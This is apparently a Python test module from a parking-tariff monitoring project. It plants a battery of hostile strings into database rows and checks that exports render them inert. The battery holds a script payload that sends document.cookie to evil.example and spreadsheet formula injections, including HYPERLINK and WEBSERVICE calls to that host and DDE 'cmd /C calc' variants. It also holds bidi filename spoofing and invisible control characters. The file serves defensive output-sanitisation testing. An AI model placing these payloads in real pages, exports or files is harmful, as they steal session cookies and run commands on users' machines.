"""The hostile-text battery, the database it is planted in, and the checks that text arrived inert.

Each entry is something a crawled page, a board photo or an imported complaint could carry. It is planted
as lot names, districts, addresses and operators, finding messages and legal bases, a board text, a
campaign name and a source name, then sent through every exit (tests/exports/test_battery_*.py).
"""

from __future__ import annotations

import re
from datetime import date, datetime, timedelta
from typing import Any

from markdown_it import MarkdownIt
from sqlalchemy import Engine

from parkwatch.core.tariff_reader import read_tariff
from tests.rows import demo_inspection, finding_row, posted_tariff, public_demo_lot

EVIL_HOST = "evil.example"
BATTERY: dict[str, str] = {
    "markdown_link": f"[点此办理退款](http://{EVIL_HOST}/refund)",
    "markdown_image": f"![退款二维码](https://{EVIL_HOST}/qr.png)",
    "html": f'<font color="warning">紧急</font><b>加粗</b><a href="http://{EVIL_HOST}/a">链接</a>',
    "script": f"<script>fetch('//{EVIL_HOST}/'+document.cookie)</script><img src=x onerror=alert(1)>",
    "formula": "=1+1",
    "hyperlink": f'=HYPERLINK("http://{EVIL_HOST}/?d="&A1,"查看详情")',
    "webservice": f'=WEBSERVICE("http://{EVIL_HOST}/")',
    "at_sum": "@SUM(1+1)*cmd|' /C calc'!A0",
    "plus_cmd": "+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "tab_formula": "\t=1+1",
    "cr_formula": "\r=1+1",
    "bidi": "停车场\u202egpj.exe",
    "zero_width": "停\u200b车\u200c场\u200d收\u2060费\ufeff",
    "long": "很长的停车场名称" * 1250,  # 10,000 characters
    "nul": "停车\x00场\x07\x1b[31m",
    "autolink": f"访问 www.{EVIL_HOST} 或 http://{EVIL_HOST}/x 或 {EVIL_HOST} 领取退款",
    "emphasis": "**粗体** _斜体_ `代码` ~~删除~~\n# 标题\n> 引用 | 表格 |",
    "rich_markup": f"[link=http://{EVIL_HOST}]点击[/link][bold red]警告[/bold red]",
}
CAMPAIGN_NAME = BATTERY["hyperlink"] + BATTERY["rich_markup"]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
INVISIBLE = ("\x00", "\x07", "\x1b", "\u202e", "\u200b", "\u200c", "\u200d", "\u2060", "\ufeff")
NOW = datetime(2024, 6, 3, 9, 0)
TARIFF = read_tariff("小型车：首小时5元，之后每小时2元，24小时最高收费20元").tariff
DEARER = read_tariff("小型车：首小时10元，之后每小时4元，24小时最高收费40元").tariff
assert TARIFF is not None and DEARER is not None


def seed_battery(engine: Engine) -> dict[str, Any]:
    """One lot per battery entry (name, district, address, operator all hostile), each with a posted
    tariff, a confirmed finding and an inspection in a hostile-named campaign; a failing hostile source."""
    from parkwatch.store.db.engine import write_session
    from parkwatch.store.db.models import Campaign

    ids: dict[str, Any] = {"lots": {}}
    with write_session(engine) as s:
        source = _hostile_source(s)
        campaign = Campaign(
            name=CAMPAIGN_NAME, start_date=date(2024, 4, 1), end_date=date(2024, 6, 30), targets={}, is_demo=True
        )
        s.add(campaign)
        s.flush()
        ids["campaign"] = campaign.id
        for n, (key, text) in enumerate(BATTERY.items()):
            lot = public_demo_lot(
                text,
                NOW,
                29.3 + n * 0.001,
                113.1 + n * 0.001,
                address=text,
                district=text,
                operator=text,
                pricing_form="market",
            )
            s.add(lot)
            s.flush()
            ids["lots"][key] = lot.id
            # an older posted tariff and a dearer current one: a price change the bot notifies
            for at, tariff in ((NOW - timedelta(days=30), TARIFF), (NOW, DEARER)):
                posted_tariff(s, lot.id, source.id, text, tariff.to_json(), at, f"h{at:%d}")
            s.add(
                finding_row(
                    lot.id,
                    "PD006",
                    text,
                    NOW,
                    fingerprint=f"battery-{key}",
                    status="confirmed",
                    basis=text,
                    is_demo=True,
                )
            )
            s.add(
                demo_inspection(
                    lot.id,
                    campaign.id,
                    date(2024, 5, 6),
                    text,
                    NOW,
                    refunds_yuan="0.00",
                    created_by="battery",
                    staff_count=2,
                    outcome="warning",
                    notes=text,
                )
            )
    return ids


def _hostile_source(s: Any) -> Any:
    """The lots' source (named as a source definition names it), and a failing source named with the battery.

    Source names come from the bureau's own source definitions (data/sources/*.yaml); the failing one
    is hostile all the same, for the bot's message about it."""
    from parkwatch.store.db.models import Source, SourceRun

    source = Source(key="battery-portal", kind="web", name="演示停车信息平台", url="http://portal.example/")
    failing = Source(key="battery", kind="web", name=BATTERY["markdown_link"], url="http://portal.example/")
    s.add_all([source, failing])
    s.flush()
    s.add(SourceRun(source_id=failing.id, started_at=NOW, finished_at=NOW, status="failed", message=BATTERY["script"]))
    return source


# ---------------------------------------------------------------------------------------------
# Checks
# ---------------------------------------------------------------------------------------------

_COMMONMARK = MarkdownIt("commonmark")
# what a client turns into a link to the foreign host: a URL, a www. name or the bare domain, unbroken
LIVE_FOREIGN = re.compile(rf"(?:https?:/+|www\.)?{re.escape(EVIL_HOST)}", re.IGNORECASE)


def live_markup(source: str, allowed: tuple[str, ...] = ()) -> list[str]:
    """What `source`, rendered as CommonMark, makes live: HTML, links and images (but links starting with
    one of `allowed`: the project's own, and those its own words carry)."""
    found: list[str] = []
    for token in _walk(_COMMONMARK.parse(source)):
        if token.type in ("html_inline", "html_block"):
            found.append(f"html {token.content!r}")
        elif token.type == "image":
            found.append(f"image {token.attrs.get('src')!r}")
        elif token.type == "link_open":
            href = str(token.attrs.get("href", ""))
            if not href.startswith(allowed):
                found.append(f"link {href!r}")
    return found


def _walk(tokens: list[Any]) -> list[Any]:
    out = []
    for token in tokens:
        out.append(token)
        out.extend(_walk(token.children or []))
    return out


def autolinks(source: str) -> list[str]:
    """Foreign-host links a chat, mail or GFM renderer would make from bare text."""
    return LIVE_FOREIGN.findall(source)


def invisible(text: str) -> list[str]:
    return [repr(ch) for ch in INVISIBLE if ch in text]


def formula_like(text: str) -> bool:
    from parkwatch.store.exports import is_plain_number

    return text.lstrip(" ").startswith(FORMULA_STARTS) and not is_plain_number(text)
